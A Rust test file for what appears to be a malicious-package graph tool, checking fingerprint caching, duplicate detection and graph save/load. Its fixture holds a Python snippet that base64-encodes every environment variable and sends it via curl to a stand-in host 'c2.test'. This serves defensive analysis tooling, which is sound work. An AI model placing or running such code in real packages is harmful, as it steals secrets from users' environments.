//! The store round trip: load_input (fingerprints computed once, then cached), save, load.

use flate2::Compression;
use flate2::write::GzEncoder;
use malgraph_core::{Ecosystem, PackageId};
use malgraph_graph::*;
use malgraph_intel::{Batch, Sample, SourceKind};
use malgraph_store::Store;
use sha2::{Digest, Sha256};

fn targz(files: &[(&str, &str)]) -> Vec<u8> {
    let mut b = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::default()));
    for (path, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, path, body.as_bytes()).unwrap();
    }
    b.into_inner().unwrap().finish().unwrap()
}

const BODY: &str = "import os, base64\nfor k, v in os.environ.items():\n    data = base64.b64encode((k + '=' + v).encode())\n    os.system('curl -d ' + data.decode() + ' http://c2.test/x')\nprint('installed', len(data), 42)\n";

#[test]
fn load_input_fingerprints_once_and_snapshots_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let mut samples = Vec::new();
    for (name, ident) in [("aaa", "data"), ("bbb", "payload"), ("broken", "")] {
        let bytes = if name == "broken" {
            b"not an archive".to_vec()
        } else {
            targz(&[(
                &format!("{name}-1.0/{name}/__init__.py"),
                &BODY.replace("data", ident),
            )])
        };
        let path = dir.path().join(format!("{name}-1.0.tar.gz"));
        std::fs::write(&path, &bytes).unwrap();
        samples.push(Sample {
            package: PackageId::new(Ecosystem::PyPI, name, Some("1.0")),
            sha256: hex::encode(Sha256::digest(&bytes)),
            size: bytes.len() as u64,
            location: path.to_string_lossy().into_owned(),
            date: Some("2023-04-01".into()),
            label: None,
        });
    }
    let batch = Batch {
        source: "test-samples".into(),
        kind: SourceKind::ArchiveFolder,
        location: dir.path().to_string_lossy().into_owned(),
        advisories: vec![],
        samples,
        names: vec![],
        reports: vec![],
        errors: vec![],
    };
    let db = dir.path().join("g.db");
    let mut store = Store::open(db.to_str().unwrap()).unwrap();
    store.ingest(&batch).unwrap();

    let (input, st) = load_input(&mut store).unwrap();
    assert_eq!((st.samples, st.computed, st.cached), (3, 2, 0));
    assert_eq!(st.errors.len(), 1);
    let g = build(&input, &BuildOptions::default());
    // renamed copies: identical normalised code
    assert!(g.edges.iter().any(|e| e.kind == EdgeKind::Duplicated
        && e.source == "ver:pypi/aaa@1.0"
        && e.target == "ver:pypi/bbb@1.0"
        && e.why.contains("normalised")));

    let (input2, st2) = load_input(&mut store).unwrap();
    assert_eq!((st2.computed, st2.cached), (0, 2));
    let g2 = build(&input2, &BuildOptions::default());
    assert_eq!(to_node_link_json(&g), to_node_link_json(&g2));

    assert!(load(&store).unwrap().is_none());
    save(&mut store, &g).unwrap();
    let back = load(&store).unwrap().unwrap();
    assert_eq!(to_node_link_json(&back), to_node_link_json(&g));
}
